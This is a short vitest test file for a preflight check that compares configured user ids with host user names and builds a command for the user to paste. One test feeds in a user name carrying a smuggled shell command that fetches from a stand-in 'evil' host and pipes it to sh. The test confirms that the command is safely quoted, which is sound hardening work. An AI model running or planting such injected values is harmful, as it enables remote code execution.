import { expect, it } from 'vitest';
import { judge, subjectOf } from '../preflight-check.fixture.ts';
import { users } from './users.ts';

it('compares the drawn ids with the host’s names', () => {
  const drawn = subjectOf(undefined, [{ id: 'u', name: 'dora', uid: 1003 }]);
  expect(judge(users, ['users.asked yes', 'users.1003 dora'], drawn)).toMatchObject([{ verdict: 'fine' }]);
  expect(judge(users, ['users.asked yes', 'users.1003 eve'], drawn)).toMatchObject([
    { verdict: 'warning', message: expect.stringMatching(/1003 .*dora.*it is eve's/) },
  ]);
  expect(judge(users, ['users.asked yes', 'users.1003 '], drawn)).toMatchObject([
    { verdict: 'warning', message: expect.stringMatching(/no user with the id 1003/) },
  ]);
  expect(judge(users, ['users.asked yes'])).toEqual([]);
});

it('writes a command to paste that no user’s name can turn into another', () => {
  const drawn = subjectOf(undefined, [{ id: 'u', name: 'eve; curl evil|sh #', uid: 1003 }]);
  expect(judge(users, ['users.asked yes', 'users.1003 '], drawn)).toMatchObject([
    { mend: expect.stringContaining("id -u -- 'eve; curl evil|sh #'") },
  ]);
});
